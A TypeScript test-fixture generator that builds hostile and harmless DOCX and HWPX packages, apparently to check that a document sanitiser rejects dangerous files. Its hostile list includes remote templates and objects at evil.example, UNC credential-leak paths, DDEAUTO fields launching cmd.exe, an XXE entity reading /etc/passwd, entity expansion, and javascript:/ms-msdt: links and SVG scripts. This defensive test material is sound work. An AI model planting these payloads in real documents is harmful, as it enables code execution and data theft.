import { type Dice, dice } from './dice.ts';
import { hwpx, xlsx } from './documents.ts';
import type { VariedFile } from './varied-pdfs.ts';
import { documentOf, encoded, type Made, run } from './varied-writing.ts';
import type { CraftedEntry } from './zip.ts';

const unc = [
  '\\\\10.0.0.9\\share\\a',
  'file://10.0.0.9/share/a',
  '//10.0.0.9/share/a',
  'file:\\\\10.0.0.9\\a',
  'file://///10.0.0.9/a',
];

const fieldOf = (...pieces: string[]) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;

const hostile: { what: string; made: (roll: Dice) => Made }[] = [
  {
    what: 'a template from elsewhere',
    made: (roll) => outside('attachedTemplate', roll.one(['http://evil.example/x.dotm', ...unc])),
  },
  {
    what: 'an object from elsewhere',
    made: (roll) =>
      outside('oleObject', roll.one(['http://evil.example/x', 'mhtml:http://evil.example/x!x'])),
  },
  { what: 'a frame from elsewhere', made: () => outside('frame', 'http://evil.example/x') },
  { what: 'a document from elsewhere', made: () => outside('subDocument', 'http://evil.example/x.docx') },
  { what: 'a picture over the network', made: (roll) => outside('image', roll.one(unc)) },
  { what: 'a link over the network', made: (roll) => outside('hyperlink', roll.one(unc)) },
  {
    what: 'a link that runs',
    made: (roll) =>
      outside(
        'hyperlink',
        roll.one(['javascript:alert(1)', 'JaVaScRiPt:1', 'ms-msdt:/id', 'vbscript:1', 'java\tscript:1']),
      ),
  },
  {
    what: 'a relation that leads out without saying so',
    made: () => ({ relations: [{ type: 'attachedTemplate', target: 'https://evil.example/x.dotm' }] }),
  },
  {
    what: 'foreign text taken in',
    made: (roll) => ({
      relations: [{ type: 'aFChunk', target: 'a.txt' }],
      body: roll.chance(0.5) ? '<w:altChunk/>' : '',
      more: [{ name: 'word/a.txt', data: 'text' }],
    }),
  },
  {
    what: 'a page as text',
    made: (roll) => ({
      more: [{ name: `word/${roll.one(['afchunk.mht', 'a.HTML', 'b.htm', 'c.rtf'])}`, data: 'x' }],
    }),
  },
  {
    what: 'a page as picture',
    made: (roll) => ({
      more: [
        {
          name: 'word/media/image1.png',
          data: encoded(`${roll.one(['', ' \n'])}<html><body>x</body></html>`, roll),
        },
      ],
    }),
  },
  {
    what: 'a field that talks to programs',
    made: (roll) => ({
      body: fieldOf(
        ...split(roll.one(['DDEAUTO', 'DDE', 'ddeauto']), roll),
        ' c:\\\\windows\\\\cmd.exe "/k calc"',
      ),
    }),
  },
  {
    what: 'a simple field that talks to programs',
    made: () => ({ body: '<w:fldSimple w:instr="DDEAUTO c:\\cmd.exe"/>' }),
  },
  { what: 'a field spelled by numbers', made: () => ({ body: fieldOf(' QUOTE 68 68 69 65 85 84 79 ') }) },
  {
    what: 'a field that takes a text in',
    made: (roll) => ({ body: fieldOf(...split('INCLUDETEXT', roll), ' "http://evil.example/a"') }),
  },
  { what: 'a document type', made: () => ({ doctype: '<!DOCTYPE w:document>' }) },
  {
    what: 'entities of its own',
    made: () => ({
      doctype: '<!DOCTYPE d [<!ENTITY a "&#104;"><!ENTITY b SYSTEM "file:///etc/passwd">]>',
      body: run('x'),
    }),
  },
  {
    what: 'an entity that grows',
    made: () => ({ doctype: `<!DOCTYPE d [<!ENTITY a "${'a'.repeat(99)}"><!ENTITY b "&a;&a;&a;">]>` }),
  },
  {
    what: 'a drawing with a script',
    made: (roll) =>
      drawing(
        roll.one([
          '<script>alert(1)</script>',
          '<g onload="alert(1)"/>',
          '<a href="javascript:alert(1)"/>',
          '<foreignObject/>',
          '<set attributeName="href" to="javascript:1"/>',
        ]),
        roll,
      ),
  },
  {
    what: 'a drawing from elsewhere',
    made: (roll) =>
      drawing(
        roll.one([
          '<image href="http://evil.example/a.png"/>',
          '<use href="//10.0.0.9/a.svg#a"/>',
          '<style>@import "http://evil.example/a"</style>',
          '<rect fill="url(http://evil.example/a)"/>',
        ]),
        roll,
      ),
  },
  { what: 'macros by their type', made: () => ({ more: [] }) },
  {
    what: 'a workbook that talks to programs',
    made: (roll) => ({ more: [embedded(roll.one(["cmd|'/c calc'!A0", "MSEXCEL|'\\..\\cmd.exe /c'!''"]))] }),
  },
  {
    what: 'an action that starts a program',
    made: () => ({ body: '<w:x><a:hlinkClick xmlns:a="urn:a" action="ppaction://program"/></w:x>' }),
  },
  { what: 'a control', made: () => ({ body: '<w:object><w:control w:name="a" w:shapeid="b"/></w:object>' }) },
  {
    what: 'a linked object',
    made: () => ({
      body: '<w:object><o:OLEObject xmlns:o="urn:o" Type="Link" ProgID="Package"/></w:object>',
    }),
  },
];

const harmless: { what: string; made: (roll: Dice) => Made }[] = [
  {
    what: 'a link to the web',
    made: (roll) =>
      outside(
        'hyperlink',
        roll.one([
          'https://start.example/a?b=c&amp;d',
          'mailto:a@start.example',
          'http://start.example/DDE',
          'tel:+82-2-000-0000',
        ]),
      ),
  },
  {
    what: 'a link to a file of its author',
    made: () => outside('hyperlink', 'file:///C:/Users/a/plan.xlsx'),
  },
  { what: 'a picture of the web', made: () => outside('image', 'https://start.example/a.png') },
  { what: 'a film of the web', made: () => outside('video', 'https://www.youtube.com/embed/a') },
  { what: 'a table of contents', made: () => ({ body: fieldOf(' TOC \\o "1-3" \\h \\z \\u ') }) },
  { what: 'a page number', made: (roll) => ({ body: fieldOf(...split('PAGE', roll), ' \\* MERGEFORMAT') }) },
  { what: 'a link in a field', made: () => ({ body: fieldOf(' HYPERLINK "https://start.example/LINK" ') }) },
  { what: 'words about programs', made: () => ({ body: run('DDEAUTO, INCLUDETEXT와 javascript: 이야기') }) },
  {
    what: 'a drawing',
    made: (roll) =>
      drawing('<path d="M0 0L9 9" fill="url(#a)"/><image href="data:image/png;base64,AAAA"/>', roll),
  },
  { what: 'a workbook', made: () => ({ more: [embedded('SUM(A1:A9)&amp;"|"&amp;Sheet2!B1')] }) },
];

function outside(type: string, target: string): Made {
  return { relations: [{ type, target, external: true }] };
}

function split(text: string, roll: Dice): string[] {
  const at = roll.below(text.length);
  return [text.slice(0, at), text.slice(at)];
}

function drawing(inside: string, roll: Dice): Made {
  const root = roll.one([
    '<svg xmlns="http://www.w3.org/2000/svg">',
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">',
  ]);
  const name = roll.one(['word/media/image1.svg', 'word/media/image1.SVG', 'word/media/image2.png']);
  return { more: [{ name, data: encoded(`${root}${inside}</svg>`, roll) }] };
}

function embedded(formula: string): CraftedEntry {
  return {
    name: 'word/embeddings/Microsoft_Excel_Sheet1.xlsx',
    data: xlsx([
      {
        name: 'xl/worksheets/sheet1.xml',
        data: `<worksheet><sheetData><row><c><f>${formula}</f></c></row></sheetData></worksheet>`,
      },
    ]),
  };
}

/** So many documents that must be refused, each another class in another spelling. */
export function variedHostilePackages(count: number, seed: number): VariedFile[] {
  return Array.from({ length: count }, (_, n) => {
    const roll = dice(seed * 6151 + n);
    const { what, made } = hostile[n % hostile.length] ?? roll.one(hostile);
    const type = what.startsWith('macros')
      ? roll.one([
          'application/vnd.ms-word.document.macroEnabled.main+xml',
          'APPLICATION/VND.MS-OFFICE.VBAPROJECT',
        ])
      : null;
    return documentOf(`${n}: ${what}`, made(roll), roll, type);
  });
}

/** So many documents in the same spellings that must be taken. */
export function variedHarmlessPackages(count: number, seed: number): VariedFile[] {
  return Array.from({ length: count }, (_, n) => {
    const roll = dice(seed * 12_289 + n);
    const { what, made } = harmless[n % harmless.length] ?? roll.one(harmless);
    return documentOf(`${n}: ${what}`, made(roll), roll, null);
  });
}

/** HWPX documents that must be refused: the same classes as far as the format has them. */
export function hostileHwpx(seed: number): VariedFile[] {
  const roll = dice(seed);
  const made = (what: string, entry: CraftedEntry): VariedFile => ({
    what,
    fileName: 'a.hwpx',
    bytes: hwpx([entry]),
  });
  return [
    made('a document type in HWPX', { name: 'Contents/a.xml', data: encoded('<!DOCTYPE a><a/>', roll) }),
    made('a page in HWPX', {
      name: 'BinData/image1.png',
      data: encoded('<html><script>1</script></html>', roll),
    }),
    made('a scripted drawing in HWPX', {
      name: 'BinData/image1.svg',
      data: encoded('<svg onload="alert(1)"/>', roll),
    }),
    made('a drawing from elsewhere in HWPX', {
      name: 'BinData/i.svg',
      data: '<svg><image href="http://evil.example/"/></svg>',
    }),
    made('a picture over the network in HWPX', {
      name: 'Contents/b.xml',
      data: '<hc:img src="\\\\10.0.0.9\\a"/>',
    }),
  ];
}
